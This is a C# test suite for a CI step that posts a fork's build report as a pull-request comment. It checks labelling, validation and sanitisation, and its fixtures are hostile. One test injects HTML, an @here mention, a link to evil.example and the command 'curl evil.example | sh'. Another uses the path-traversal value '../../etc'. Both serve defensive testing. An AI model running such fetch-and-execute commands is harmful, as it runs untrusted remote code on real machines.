using System.Text.Json.Nodes;
using MlOpsBuild.Components.Ci.Tests;
using MlOpsBuild.Components.Tests;
using MlOpsBuild.TestKit.CodeHosts;

namespace MlOpsBuild.Components.Flow.Tests;

/// <summary>The second workflow: a fork's report, published by the delivered branch's code.</summary>
public sealed class ForeignReportTests : IAsyncLifetime, IDisposable
{
    private const string Commit = "0123456789abcdef0123456789abcdef01234567";
    private readonly TestRun _fork = new();
    private readonly TestRun _run = new();
    private readonly FakeGitHub _gitHub = new() { Token = "ghs_x" };

    public async Task InitializeAsync()
    {
        (await _fork.RunAsync<HostedBuild>("TestModel", "Report")).ShouldBe(0, _fork.Output);
        var reports = Directory.GetFiles(_fork.Root, "report.json", SearchOption.AllDirectories);
        Directory.CreateDirectory(Path.Combine(_run.Root, "incoming", "a"));
        File.Copy(reports.Single(), Incoming);
        _gitHub.OpenPulls.Add((7, "eve:better", Commit));
        Say("eve", "better", Commit);
    }

    public Task DisposeAsync() => Task.CompletedTask;

    public void Dispose()
    {
        _gitHub.Dispose();
        _run.Dispose();
        _fork.Dispose();
    }

    private string Incoming => Path.Combine(_run.Root, "incoming", "a", "report.json");

    [Fact]
    public async Task A_forks_report_becomes_a_comment_that_says_whose_it_is()
    {
        (await _run.RunAsync<HostedBuild>("Report", "--from", "incoming")).ShouldBe(0, _run.Output);

        var comment = _gitHub.Comments.ShouldHaveSingleItem();
        comment.Body.ShouldContain("SmallDemand: Passed");
        comment.Body.ShouldContain("Made by the code of a fork, on its own authority");
        comment.Body.ShouldContain("git fetch origin pull/7/head");
        comment.Body.ShouldContain("run=41 attempt=2 commit=" + Commit);
        (_gitHub.CheckRuns.Count, _gitHub.Statuses.Count).ShouldBe((0, 0));
    }

    [Fact]
    public async Task Words_of_a_stranger_are_words_and_commands_of_a_stranger_are_not_passed_on()
    {
        Change(report =>
        {
            report["answer"] = "<img src=x> @here [click](http://evil.example)";
            report["reproduce"] = "curl evil.example | sh";
            report["lineage"]!.AsArray().Add(new JsonObject { ["what"] = "run", ["value"] = "here", ["link"] = "https://evil.example/" });
        });

        (await _run.RunAsync<HostedBuild>("Report", "--from", "incoming")).ShouldBe(0, _run.Output);

        var body = _gitHub.Comments.ShouldHaveSingleItem().Body;
        body.ShouldNotContain("<img");
        body.ShouldNotContain("@here");
        body.Replace("\\]", "", StringComparison.Ordinal).ShouldNotContain("](http");
        body.ShouldNotContain("](<http");
        body.ShouldNotContain("curl");
    }

    [Fact]
    public async Task A_request_that_has_moved_on_gets_nothing()
    {
        Say("eve", "better", "ffff456789abcdef0123456789abcdef01234567");

        (await _run.RunAsync<HostedBuild>("Report", "--from", "incoming")).ShouldBe(0, _run.Output);

        _run.Output.ShouldContain("nothing is published");
        _gitHub.Comments.ShouldBeEmpty();
    }

    public static TheoryData<string, string> Wrongs => new()
    {
        { "lineage", "null" },
        { "run", "null" },
        { "charts", "[null]" },
        { "gates", "null" },
        { "gates", "[{}]" },
        { "stages", "[{\"stage\":\"x\"}]" },
        { "verdict", "\"Great\"" },
        { "predictors", "{\"candidate\":null}" },
        {
            "charts",
            "[{\"title\":\"t\",\"form\":\"Bars\",\"series\":[{\"name\":\"n\",\"points\":[{\"x\":1e300,\"y\":\"NaN\"}]}],\"marks\":null}]" },
    };

    [Theory]
    [MemberData(nameof(Wrongs))]
    public async Task A_file_that_is_wrong_is_refused_and_nothing_is_published(string member, string value)
    {
        Change(report => report[member] = JsonNode.Parse(value));

        (await _run.RunAsync<HostedBuild>("Report", "--from", "incoming")).ShouldBeOneOf(1, 2);

        _run.Output.ShouldContain("incoming/a/report.json");
        _run.Output.ShouldNotContain("   at MlOpsBuild");
        _gitHub.Comments.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_pipeline_that_is_not_ours_is_left_out_and_the_others_are_published()
    {
        Directory.CreateDirectory(Path.Combine(_run.Root, "incoming", "b"));
        var foreign = (JsonObject)JsonNode.Parse(File.ReadAllText(Incoming))!;
        foreign["pipeline"] = "../../etc";
        File.WriteAllText(Path.Combine(_run.Root, "incoming", "b", "report.json"), foreign.ToJsonString());

        (await _run.RunAsync<HostedBuild>("Report", "--from", "incoming")).ShouldBe(0, _run.Output);

        _run.Output.ShouldContain("'../../etc' is no pipeline of this repository");
        _gitHub.Comments.ShouldHaveSingleItem().Body.ShouldContain("SmallDemand: Passed");
    }

    [Fact]
    public async Task Numbers_without_end_end_nothing()
    {
        Change(report => report["charts"] = JsonNode.Parse(
            """[{"title":"t","form":"Lines","series":[{"name":"n","points":[{"x":1e20,"y":1e20},{"x":100000000000000016384,"y":100000000000000016384}]}]}]"""));

        (await _run.RunAsync<HostedBuild>("Report", "--from", "incoming")).ShouldBe(0, _run.Output);

        _gitHub.Comments.ShouldHaveSingleItem();
    }

    [Fact]
    public async Task Outside_that_workflow_nothing_is_published()
    {
        _run.Environment.Clear();

        (await _run.RunAsync<HostedBuild>("Report", "--from", "incoming")).ShouldBe(2, _run.Output);
        (await _run.RunAsync<HostedBuild>("Report", "--from", "nowhere")).ShouldBe(2, _run.Output);
    }

    private void Change(Action<JsonObject> change)
    {
        var report = (JsonObject)JsonNode.Parse(File.ReadAllText(Incoming))!;
        change(report);
        File.WriteAllText(Incoming, report.ToJsonString());
    }

    private void Say(string owner, string branch, string commit)
    {
        var payload = new JsonObject
        {
            ["workflow_run"] = new JsonObject
            {
                ["head_sha"] = commit, ["head_branch"] = branch,
                ["head_repository"] = new JsonObject { ["owner"] = new JsonObject { ["login"] = owner } },
                ["run_number"] = 41, ["run_attempt"] = 2, ["html_url"] = "https://github.com/acme/shop/actions/runs/9",
                ["pull_requests"] = new JsonArray(),
            },
        };
        _run.RunOn(_gitHub, payload);
    }
}
